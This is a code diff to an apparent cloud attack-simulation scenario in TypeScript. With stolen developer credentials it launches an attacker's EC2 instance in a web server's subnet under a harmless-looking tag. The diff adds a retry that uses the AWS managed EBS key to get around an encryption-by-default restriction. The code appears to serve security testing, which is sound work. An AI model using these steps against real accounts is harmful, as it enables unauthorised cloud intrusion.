@@ -62,11 +62,19 @@ export const stolenDeveloperKeyScenario: Scenario = {
     const ec2 = s.client(EC2Client, { credentials: st.creds, sourceIp: st.ip });
     const targets = await dataTargets(s);
 
-    const run = await attemptEbs(s, `launch an instance of the attacker's in the web server's subnet ${env.subnet.id} (RunInstances)`, () => ec2.send(new RunInstancesCommand({
+    const launch = (root?: string) => ec2.send(new RunInstancesCommand({
       ImageId: env.image.id, SubnetId: env.subnet.id, InstanceType: 't3.micro', MinCount: 1, MaxCount: 1,
+      // Encryption by default under a key the developer may not use refuses a plain launch: an attacker
+      // names the AWS managed key for the root volume instead (any EC2 user of the account may use it).
+      ...(root ? { BlockDeviceMappings: [{ DeviceName: root, Ebs: { VolumeSize: 8, Encrypted: true, KmsKeyId: 'alias/aws/ebs' } }] } : {}),
       TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Name', Value: 'build-runner-7' }] }],
-    })));
+    }));
+    let run = await attemptEbs(s, `launch an instance of the attacker's in the web server's subnet ${env.subnet.id} (RunInstances)`, () => launch());
     steps.push(run.step);
+    if (!run.value) {
+      run = await attemptEbs(s, `launch it again with its root volume under the AWS managed key aws/ebs (RunInstances)`, () => launch(env.image.rootDeviceName));
+      steps.push(run.step);
+    }
     st.instanceId = run.value?.Instances?.[0]?.InstanceId;
 
     const sources: Source[] = [];
